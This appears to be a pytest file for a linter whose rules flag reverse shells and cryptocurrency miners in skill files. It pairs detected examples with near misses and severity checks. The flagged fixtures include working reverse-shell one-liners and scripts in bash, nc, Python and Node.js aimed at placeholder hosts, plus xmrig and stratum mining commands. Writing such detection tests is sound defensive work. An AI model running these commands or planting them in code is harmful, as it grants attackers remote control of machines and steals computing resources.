"""EX: shells for others, and miners."""

from __future__ import annotations

import pytest

from tests.lint.tables import Case, found, js, py, sh
from trace2skill.lint.rules import Example

CASES = [
    Case(
        "EX104",
        bad=[
            sh("bash -i >& /dev/tcp/files.zz-not-a-host.xyz/4444 0>&1"),
            sh("nc files.zz-not-a-host.xyz 4444 -e /bin/sh"),
            sh("mkfifo f; cat f | sh -i 2>&1 | nc files.zz-not-a-host.xyz 4444 > f"),
            py(
                "import os, socket\ns = socket.socket()\ns.connect(('files.zz-not-a-host.xyz', 1))\n"
                "os.dup2(s.fileno(), 0)\n"
            ),
            py(
                "import socket, subprocess\ns = socket.create_connection(('files.zz-not-a-host.xyz', 4444))\n"
                "subprocess.call(['/bin/sh', '-i'], stdin=s, stdout=s, stderr=s)\n"
            ),
            py("import os\nos.system('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')\n"),
            js(
                "const net = require('net'), cp = require('child_process');\n"
                "const sh = cp.spawn('/bin/sh', []);\n"
                "const c = net.connect(4444, 'files.zz-not-a-host.xyz');\n"
                "c.pipe(sh.stdin);\nsh.stdout.pipe(c);\n"
            ),
            {
                "run.sh": "exec 5<>/dev/tcp/files.zz-not-a-host.xyz/443\n"
                "cat <&5 | while read l; do $l >&5; done\n"
            },
        ],
        good=[
            py("import os, pty, socket\nsocket.gethostname()\npty.spawn('/bin/bash')\nos.dup2(1, 2)\n"),
            sh("socat TCP-LISTEN:8080,fork TCP:localhost:80"),
            sh("nc -l 8080 > out.bin"),
            sh("(echo > /dev/tcp/localhost/5432) && echo up"),
            sh("nc -z localhost 5432"),
            py("import socket\ns = socket.socket()\ns.connect(('localhost', 1))\n"),
        ],
    ),
    Case(
        "EX112",
        bad=[
            sh("./xmrig -o pool.zz-not-a-host.xyz:3333 -u x"),
            sh("run stratum+tcp://pool.zz-not-a-host.xyz:3333"),
            sh("minerd -a cryptonight"),
            {"config.json": '{"pools": [{"url": "stratum+tcp://pool.zz-not-a-host.xyz:1", "user": "4A"}]}\n'},
            py("import subprocess\nsubprocess.Popen(['./xmrig', '-o', 'pool.zz-not-a-host.xyz:3333'])\n"),
        ],
        good=[
            {"a.json": '{"url": "https://pool.zz-not-a-host.xyz", "user": "me"}\n'},
            sh("./pool -o stratum.json"),
            "Stratum is a protocol.\n",
            sh("grep xmrig process.log"),
        ],
    ),
]


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.rule)
def test_the_rule_finds_the_bad_and_leaves_the_near_misses(case: Case) -> None:
    for example in case.bad:
        assert found(case.rule, example), example
    for example in case.good:
        assert found(case.rule, example) == (), example


@pytest.mark.parametrize(
    ("rule", "example", "level"),
    [
        ("EX104", sh("bash -i >& /dev/tcp/files.zz-not-a-host.xyz/4444 0>&1"), "error"),
        ("EX104", py("BAD = [r'bash -i >& /dev/tcp/', 'x']\n"), "warning"),
        ("EX104", sh("grep -rn 'bash -i >& /dev/tcp/' ."), "warning"),
        ("EX104", sh("# bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), "warning"),
        ("EX112", sh("./xmrig -o pool.zz-not-a-host.xyz:3333"), "error"),
        ("EX112", py("BAD = ['stratum+tcp://']\n"), "warning"),
    ],
)
def test_words_alone_are_no_error(rule: str, example: Example, level: str) -> None:
    assert {one.severity for one in found(rule, example)} == {level}


def test_a_skill_about_security_may_show_a_reverse_shell() -> None:
    front = "---\nname: demo\ndescription: Pentest helper, finds injection and exploits in a CTF.\n---\n\n"
    code = sh("bash -i >& /dev/tcp/files.zz-not-a-host.xyz/4444 0>&1")
    assert [one.severity for one in found("EX104", {"SKILL.md": front + code})] == ["warning"]
